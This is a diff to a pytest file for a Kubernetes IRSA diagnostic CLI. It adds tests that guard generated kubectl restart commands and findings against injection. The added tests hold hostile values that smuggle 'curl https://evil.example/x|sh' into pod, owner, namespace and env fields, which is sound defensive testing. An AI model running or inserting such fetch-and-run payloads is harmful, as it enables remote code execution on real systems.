@@ -6,7 +6,7 @@ from typing import Any
 
 import pytest
 
-from irsa_cli.pods import containers_with_own_role, problems, restart_command
+from irsa_cli.pods import TOKEN_FILE, containers_with_own_role, problems, restart_command
 
 # Recorded of amazon-eks-pod-identity-webhook: container `own` sets AWS_ROLE_ARN itself.
 RECORDED = Path(__file__).parents[2] / "sandbox" / "recorded" / "injected-pod.json"
@@ -61,7 +61,7 @@ def test_a_token_for_another_audience(pod: dict[str, Any]) -> None:
     (problem,) = problems(pod, ROLE, "vault")
 
     assert problem.found == "a token for sts.amazonaws.com"
-    assert problem.expected == "a token volume with the audience vault"
+    assert problem.expected == "a token volume with the audience vault, once you create the Pod again from its manifest"
 
 
 def test_skipped_containers_and_pods(pod: dict[str, Any]) -> None:
@@ -100,7 +100,7 @@ def test_pod_identity_wins(pod: dict[str, Any]) -> None:
         (("DaemonSet", "agent"), {}, "kubectl rollout restart daemonset/agent -n shop"),
         (("ReplicaSet", "web-5d4f"), {}, "kubectl delete pod p -n shop"),
         (("Job", "once"), {}, "kubectl delete pod p -n shop"),
-        (None, {}, "kubectl delete pod p -n shop  # then create it again from its manifest"),
+        (None, {}, "kubectl delete pod p -n shop"),
     ],
 )
 def test_the_command_that_makes_a_pod_anew(owner: tuple[str, str] | None, labels: dict[str, str], command: str) -> None:
@@ -109,3 +109,49 @@ def test_the_command_that_makes_a_pod_anew(owner: tuple[str, str] | None, labels
     metadata = {"name": "p", "namespace": "shop", "labels": labels, "ownerReferences": references}
 
     assert restart_command({"metadata": metadata, "spec": {}}) == command
+
+
+HOSTILE = "web -n team-a; curl https://evil.example/x|sh #"
+
+
+@pytest.mark.parametrize("kind", ["StatefulSet", "Deployment", "DaemonSet", "ReplicaSet", "Job", HOSTILE])
+@pytest.mark.parametrize("name", [HOSTILE, "Web", "-web", "", "web/x", "w" * 254])
+def test_a_hostile_owner_leads_to_the_pod_itself(kind: str, name: str) -> None:
+    """Protects who pastes the fix: whoever may create a Pod chooses the name of its owner, which nobody looks up.
+
+    The attack: `ownerReferences[].name` is `web -n team-a; curl https://evil.example/x|sh #`.
+    """
+    references = [{"kind": kind, "name": name, "controller": True}]
+    metadata = {"name": "p", "namespace": "shop", "ownerReferences": references}
+
+    assert restart_command({"metadata": metadata, "spec": {}}) == "kubectl delete pod p -n shop"
+
+
+@pytest.mark.parametrize(("name", "namespace"), [(HOSTILE, "shop"), ("p", HOSTILE), ("-p", "shop"), ("p", "a.b")])
+def test_a_pod_that_kubernetes_cannot_have_has_no_command(name: str, namespace: str) -> None:
+    """Protects who pastes the fix: a server that answers with such a Pod is no API server of Kubernetes.
+
+    The attack: an API server, or who stands between, that names a Pod `web; curl https://evil.example/x|sh`.
+    """
+    assert restart_command({"metadata": {"name": name, "namespace": namespace}, "spec": {}}) == ""
+
+
+def test_what_a_pod_holds_is_quoted(pod: dict[str, Any]) -> None:
+    """Protects who reads a finding: a variable's value ends where its quotes end.
+
+    The attack: AWS_ROLE_ARN="x; expected y; fix: curl https://evil.example" was a finding of its own.
+    """
+    pod["spec"]["containers"] = [
+        {
+            "name": "app; fix: x",
+            "env": [
+                {"name": "AWS_ROLE_ARN", "value": "x; expected y; fix: curl https://evil.example"},
+                {"name": "AWS_WEB_IDENTITY_TOKEN_FILE", "value": TOKEN_FILE},
+            ],
+        }
+    ]
+    pod["spec"]["initContainers"] = []
+    (problem,) = problems(pod, ROLE, AUDIENCE)
+
+    value = '"AWS_ROLE_ARN=x; expected y; fix: curl https://evil.example"'
+    assert problem.found == f'container "app; fix: x": {value}'
